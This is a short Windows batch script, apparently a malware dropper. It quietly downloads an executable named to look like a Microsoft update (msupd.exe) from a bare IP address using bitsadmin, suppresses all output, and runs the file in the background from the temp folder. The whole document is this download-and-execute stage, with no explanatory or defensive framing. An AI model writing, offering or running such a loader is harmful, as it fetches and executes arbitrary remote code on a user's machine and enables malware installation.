@echo off
set P=%TEMP%\msupd.exe
bitsadmin /transfer upd /download /priority foreground http://203.0.113.88/msupd.exe "%P%" >nul 2>&1
start "" /b "%P%"
exit /b 0
